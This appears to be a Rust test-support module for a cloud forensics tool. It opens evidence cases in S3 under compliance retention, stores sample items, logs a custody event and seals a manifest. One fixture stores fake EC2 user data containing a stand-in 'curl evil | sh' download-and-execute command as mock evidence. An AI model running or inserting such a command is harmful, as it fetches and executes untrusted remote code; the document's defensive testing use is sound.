//! The evidence layer against the lab (real SDK clients, moto with our extensions) and
//! against the in-memory fake for what no emulator produces (crashes, throttling,
//! tampering COMPLIANCE forbids).

use std::sync::Arc;

use cleanroom::aws::s3::S3Store;
use cleanroom::evidence::store::ObjectStore;
use cleanroom::evidence::{Action, Actor, Case, CustodyEvent, LockMode, NewItem, Retention, ToolInfo};
use cleanroom::ids::{AccountId, CaseId};
use cleanroom::progress::Silent;

use crate::support::{Forensics, lab, region};

mod cli_tests;
mod fake_tests;
mod lab_tests;
pub(crate) mod tamper;

pub fn actor(account: &AccountId) -> Actor {
    Actor {
        examiner: "Ada Examiner, IR team".into(),
        principal_arn: format!("arn:aws:sts::{account}:assumed-role/CleanroomForensics/test"),
        account: account.clone(),
        session_name: "cleanroom-test".into(),
    }
}

pub fn tool() -> ToolInfo {
    ToolInfo {
        name: "cleanroom".into(),
        version: "test".into(),
        binary_sha256: cleanroom::evidence::digest::sha256_tagged(b"test binary"),
    }
}

pub fn item(account: &AccountId, name: &str) -> NewItem {
    NewItem {
        id: format!("{account}/i-0123456789abcdef0/{name}"),
        account: account.clone(),
        subject: "i-0123456789abcdef0".into(),
        name: name.into(),
        source: "ec2:DescribeInstances".into(),
        method: "API read, canonical JSON".into(),
        derived_from: vec![],
    }
}

pub fn case_id(name: &str) -> CaseId {
    name.parse().unwrap()
}

/// The S3 store of a seeded forensics account, through lab clients.
pub fn s3_store(f: &Forensics) -> Arc<dyn ObjectStore> {
    Arc::new(S3Store::new(f.clients().s3, f.config.forensics.evidence_bucket.clone()))
}

/// Opens `case` in the seeded bucket with COMPLIANCE retention, as the lab's examiner.
pub async fn open(f: &Forensics, case: &str) -> Case {
    Case::open_with(
        s3_store(f),
        &case_id(case),
        actor(&f.account),
        tool(),
        "sha256:config".into(),
        Retention::explicit(LockMode::Compliance, 1),
    )
    .await
    .expect("case opens")
}

/// A case with two JSON items, one file item, and a sealed manifest.
pub async fn populated(case: &Case, account: &AccountId, file_bytes: usize) {
    case.store_json(
        item(account, "describe-instances.json"),
        &serde_json::json!({"Reservations": [{"id": 1}]}),
    )
    .await
    .unwrap();
    case.store_json(
        item(account, "userdata.json"),
        &serde_json::json!({"UserData": "#!/bin/sh\ncurl evil | sh"}),
    )
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("console.bin");
    std::fs::write(&path, pattern(file_bytes)).unwrap();
    case.store_file(item(account, "console.bin"), &path, &Silent).await.unwrap();
    case.record(CustodyEvent {
        action: Action::NetworkIsolated,
        subject: "arn:aws:ec2:eu-west-1:111122223333:instance/i-0123456789abcdef0".into(),
        evidence: vec![],
        aws_request_ids: vec!["req-abc".into()],
        details: serde_json::json!({"isolation_group": "sg-0123456789abcdef0"}),
    })
    .await
    .unwrap();
    case.seal().await.unwrap();
}

pub fn pattern(n: usize) -> Vec<u8> {
    (0..n).map(|i| ((i * 31 + i / 7919) % 251) as u8).collect()
}

#[allow(dead_code)]
fn _uses() {
    let _ = (lab, region);
}
